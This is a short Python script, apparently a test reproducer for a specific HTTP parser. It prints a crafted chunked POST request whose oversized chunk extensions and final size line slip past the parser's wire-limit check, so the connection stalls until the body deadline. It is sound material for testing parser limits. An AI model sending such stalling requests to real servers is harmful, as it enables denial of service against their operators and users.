#!/usr/bin/env python3
"""Prints a chunked request whose framing outgrows ParserLimits.maxMessageBytes (default limits).

2105 one-byte chunks, each with a 1020-byte extension, bring the chunked wire to just under
maxChunkedWireBytes (2 MiB + 64 KiB); a last chunk then declares the rest of the 1 MiB body budget.
The parser accepts that size (the wire limit is only checked at the start of a size line), so it waits
for ~1 MiB more, but the transport stops reading once maxMessageBytes (2,203,654) are buffered
(EventLoop.readAvailable): the connection stalls until the body deadline. The input is cut exactly
at maxMessageBytes, where the parser says "need more data" and the transport would read no more.
"""
import sys

MAX_BODY = 1_048_576
MAX_CHUNKED_WIRE = MAX_BODY * 2 + 65_536
MAX_MESSAGE = 8192 + 2 + 16384 + 2 + MAX_CHUNKED_WIRE + 16384 + 2

head = b"POST /api/v2/connections HTTP/1.1\r\nHost: h\r\nTransfer-Encoding: chunked\r\n\r\n"
chunk = b"1;" + b"e" * 1020 + b"\r\nx\r\n"
count = MAX_CHUNKED_WIRE // len(chunk)
last = MAX_BODY - count
stream = head + chunk * count + b"%x\r\n" % last + b"y" * last + b"\r\n0\r\n\r\n"
sys.stdout.buffer.write(stream[:MAX_MESSAGE])
